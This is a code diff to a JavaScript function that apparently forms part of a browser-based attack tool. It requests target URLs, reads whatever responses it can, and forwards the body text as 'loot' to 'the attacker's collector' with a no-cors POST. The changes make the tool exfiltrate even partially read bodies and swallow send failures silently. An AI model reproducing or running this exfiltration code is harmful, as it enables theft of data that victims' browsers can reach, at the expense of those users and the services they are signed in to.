@@ -13,6 +13,9 @@ async function attempt(spec) {
   if (spec.fill) init.body = "x".repeat(spec.fill);
   const named = { [spec.name]: () => fetch(spec.url, init) };
   try {
+    view.unsent = true;
+    new Request(spec.url, init); // throws where no page may send it
+    view.unsent = false;
     const response = await named[spec.name]();
     if (response.type === "opaque" || response.type === "opaqueredirect") {
       view.error = "opaque response";
@@ -21,37 +24,41 @@ async function attempt(spec) {
     view.readable = true;
     view.status = response.status;
     view.headers = [...response.headers].map(([name, value]) => ({ name, value }));
-    view.body = await read(response, spec.limit);
-    if (spec.loot && view.body !== "") await sendHome(spec.loot, view.body);
+    for await (const text of read(response, spec.limit)) view.body += text;
   } catch (e) {
     view.error = String(e);
   } finally {
     clearTimeout(timer);
   }
+  // What came of a body that broke off is loot too.
+  if (spec.loot && view.body !== "") await sendHome(spec.loot, view.body);
   return view;
 }
 
-// read takes at most limit bytes of the body; the rest is not waited for.
-async function read(response, limit) {
-  if (!response.body) return "";
+// read gives at most limit bytes of the body, piece by piece; the rest is not
+// waited for.
+async function* read(response, limit) {
+  if (!response.body) return;
   const reader = response.body.getReader();
   const decoder = new TextDecoder();
-  let text = "";
   for (let size = 0; size < limit; ) {
     const { done, value } = await reader.read();
-    if (done) return text + decoder.decode();
+    if (done) {
+      yield decoder.decode();
+      return;
+    }
     const part = value.subarray(0, limit - size);
     size += part.length;
-    text += decoder.decode(part, { stream: true });
+    yield decoder.decode(part, { stream: true });
   }
   reader.cancel().catch(() => {});
-  return text;
 }
 
 // sendHome hands what was read to the attacker's collector. It needs no grant:
-// a page may send where it likes, it may only not read.
+// a page may send where it likes, it may only not read. A failure shows as loot
+// that did not arrive.
 async function sendHome(collector, text) {
-  await fetch(collector, { method: "POST", mode: "no-cors", body: text });
+  await fetch(collector, { method: "POST", mode: "no-cors", body: text }).catch(() => {});
 }
 
 // all makes the requests, a bounded number at once, and keeps their order.
